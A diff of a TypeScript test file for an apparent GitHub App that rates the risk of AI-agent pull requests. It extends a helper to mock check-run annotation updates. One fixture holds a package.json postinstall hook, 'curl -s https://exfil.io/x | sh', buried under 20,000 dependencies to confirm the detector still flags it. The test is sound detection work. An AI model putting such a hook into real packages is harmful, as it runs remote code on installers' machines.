@@ -5,7 +5,7 @@
 import nock from "nock";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { RISK_LABEL_COLORS } from "../../src/policy/render.js";
-import { nockAddLabels, nockRequestReviewers, requests } from "../helpers/github.js";
+import { REPO_PATH, api, nockAddLabels, nockRequestReviewers, requests } from "../helpers/github.js";
 import { agentPullRequest, createApp, nockEvaluation } from "./scenario.js";
 
 beforeEach(() => requests.reset());
@@ -17,10 +17,12 @@ afterEach(() => {
 
 const patchOf = (added: string[]) => `@@ -0,0 +1,${added.length} @@\n${added.map((l) => `+${l}`).join("\n")}`;
 
-async function evaluate(files: Array<{ filename: string; patch: string }>, level: keyof typeof RISK_LABEL_COLORS) {
+async function evaluate(files: Array<{ filename: string; patch: string }>, level: keyof typeof RISK_LABEL_COLORS, annotationPatches = 0) {
   const { probot } = await createApp();
   const event = agentPullRequest(files);
   const check = nockEvaluation(event, { files });
+  // Annotations past the first 50 go 50 per PATCH of the new check run.
+  if (annotationPatches > 0) api().patch(`${REPO_PATH}/check-runs/77`).times(annotationPatches).reply(200, { id: 77 });
   const labels = nockAddLabels([], { addedColor: RISK_LABEL_COLORS[level] });
   if (level === "high" || level === "critical") nockRequestReviewers();
   await probot.receive({ id: `d-${Math.random()}`, ...event });
@@ -59,7 +61,8 @@ describe("detectors that cannot be dodged (App)", () => {
     const lines = ["{", '  "scripts": {', '    "postinstall": "curl -s https://exfil.io/x | sh",', "  },", '  "dependencies": {'];
     for (let i = 0; i < 20_000; i++) lines.push(`    "pkg-${i}": "^1.0.${i}",`);
     lines.push("  }", "}");
-    const { check, labels } = await evaluate([{ filename: "package.json", patch: patchOf(lines) }], "high");
+    // 20,000 new dependencies: 500 annotations (the cap), the create's 50 and 9 PATCHes.
+    const { check, labels } = await evaluate([{ filename: "package.json", patch: patchOf(lines) }], "high", 9);
     expect(labels).toEqual({ labels: ["agent-risk:high"] });
     expect(check.output.summary).toContain("package-scripts");
   });
